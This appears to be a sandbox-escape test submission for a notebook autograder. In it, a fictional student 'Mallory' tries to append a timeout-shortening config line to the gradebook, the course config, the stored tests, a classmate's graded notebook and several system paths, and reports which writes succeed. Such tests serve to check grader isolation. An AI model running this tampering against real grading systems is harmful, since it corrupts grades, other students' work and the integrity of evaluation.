# %% identity
# Attack: write everywhere: the gradebook, the course configuration, the stored tests, a
# classmate's graded notebook, the home folder and /tmp (checked afterwards, outside the sandbox).
STUDENT_NAME = "Mallory"
STUDENT_EMAIL = "mallory@example.org"
import os

targets = ["{COURSE}/gradebook.db", "{COURSE}/nbgrader_config.py", "{COURSE}/source/01_setup/01_setup.ipynb",
           "{COURSE}/autograded/aaa_classmate/01_setup/01_setup.ipynb", "../../aaa_classmate/01_setup/01_setup.ipynb",
           "/tmp/{MARKER}", "/var/tmp/{MARKER}", "/dev/shm/{MARKER}", "/root/{MARKER}", "{HOME}/{MARKER}",
           "/grader/lib/tinytorch/{MARKER}", "{COURSE}/{MARKER}"]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("c.SandboxedExecute.timeout = 1\n")
        print("WROTE:", path)
    except OSError as e:
        print("refused:", path, type(e).__name__)
